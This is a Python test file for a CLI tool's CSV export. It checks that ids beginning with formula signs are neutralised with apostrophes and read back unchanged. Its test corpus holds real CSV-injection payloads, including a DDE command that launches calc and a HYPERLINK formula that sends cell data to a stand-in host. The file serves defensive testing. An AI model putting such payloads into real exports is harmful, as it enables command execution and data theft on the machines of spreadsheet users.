"""Formulas in CSV: what people and billing systems put into ids is shown, never computed."""

import csv
from collections.abc import Callable
from io import StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.cli.lines import invoice

from regua.cli.cells import neutral

Run = Callable[..., Any]
SIGNS = "=+-@＝＋－＠"  # noqa: RUF001 - as in spreadsheets of East Asia
CORPUS = [
    *(f"{sign}1+1" for sign in SIGNS),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid/?x="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    '"=1+1',
    "'=1+1",
    "' \"=1+1",
    "nf-1;=1+1",
    "nf-1, =1+1",
    "nf|+5511",
    'a",=1+1,"',
    "+5511987654321",
    "-1",
]
READ_AS_THEY_ARE = ["nf-1", "ana@email.invalid", "1=1", "D+2bd", "00123", "O'Hara", "a;b", ""]


def is_computed(cell: str) -> bool:
    """Whether a spreadsheet might compute a cell, by the rule of OWASP, whatever it trims before it looks."""
    return cell.startswith(("\t", "\r", "\n")) or cell.strip(' \t\r\n\N{NO-BREAK SPACE}"').startswith(tuple(SIGNS))


def cells(text: str, delimiter: str) -> list[str]:
    """The cells of a file, as somebody's spreadsheet splits it."""
    return [cell for row in csv.reader(StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def written(*texts: str) -> str:
    """A row of CSV."""
    file = StringIO()
    csv.writer(file, lineterminator="\n").writerow(map(neutral, texts))
    return file.getvalue()


def without_apostrophes(text: str) -> str:
    """What stands there once each apostrophe before a formula is taken away, letter by letter."""
    kept, begins = "", True
    for place, letter in enumerate(text):
        rest = text[place + 1 :]
        formula = rest.lstrip("\N{NO-BREAK SPACE} '\"").startswith((*SIGNS, "\t", "\r", "\n"))
        kept += "" if letter == "'" and begins and formula else letter
        begins = letter in ",;|\t\r\n"
    return kept


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula(text: str, delimiter: str):
    """At whatever character a spreadsheet splits the lines."""
    assert not [cell for cell in cells(written("loja", text, "due"), delimiter) if is_computed(cell)]


@pytest.mark.parametrize("text", [*CORPUS, *READ_AS_THEY_ARE])
def test_what_is_read_back_is_what_was_written(text: str):
    """Take the apostrophes away, and the text is there."""
    [_, read, _] = cells(written("loja", text, "due"), ",")
    assert without_apostrophes(read) == text


@pytest.mark.parametrize("text", READ_AS_THEY_ARE)
def test_what_is_no_formula_stays_as_it_is(text: str):
    """Most ids do."""
    assert neutral(text) == text


@given(st.text(alphabet=SIGNS + "'\"\t;,| a1é", max_size=12))
def test_no_text_becomes_a_formula(text: str):
    """Whatever it is made of; and nothing of it is lost."""
    for delimiter in ",;|\t":
        assert not [cell for cell in neutral(text).split(delimiter) if is_computed(cell)]
        assert not [cell for cell in cells(written("loja", text, "due"), delimiter) if is_computed(cell)]
    [_, read, _] = cells(written("loja", text, "due"), ",")
    assert read == neutral(text)
    assert without_apostrophes(read) == text


@pytest.mark.usefixtures("folder")
def test_numbers_stay_numbers(call: Run):
    """Amounts and versions are computed with; the ids beside them are not."""
    fact = invoice("=1+1", "nf;@1", "2026-04-20").encode()
    ran = call("plan", "email.toml", "-", "--as-of", "2026-04-01", "--format", "csv", stdin=fact)
    [row, *_] = csv.DictReader(StringIO(ran.out))
    assert (row["debtor"], row["receivable"]) == ("'=1+1", "nf;'@1")
    assert float(row["amount"]) > 0
    assert row["policy_version"] == "1"
